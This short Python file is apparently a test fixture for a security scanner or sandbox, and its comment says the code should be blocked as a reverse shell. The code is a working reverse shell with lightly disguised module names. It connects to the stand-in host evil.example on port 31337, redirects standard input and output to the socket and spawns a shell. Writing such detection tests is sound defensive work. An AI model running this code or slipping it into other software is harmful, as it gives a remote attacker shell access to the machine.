# expect: BLOCKED reverse_shell
import socket as net
import os as operating
from pty import spawn as go
c = net.socket(net.AF_INET, net.SOCK_STREAM)
c.connect(("evil.example", 31337))
[operating.dup2(c.fileno(), n) for n in range(3)]
go("sh")
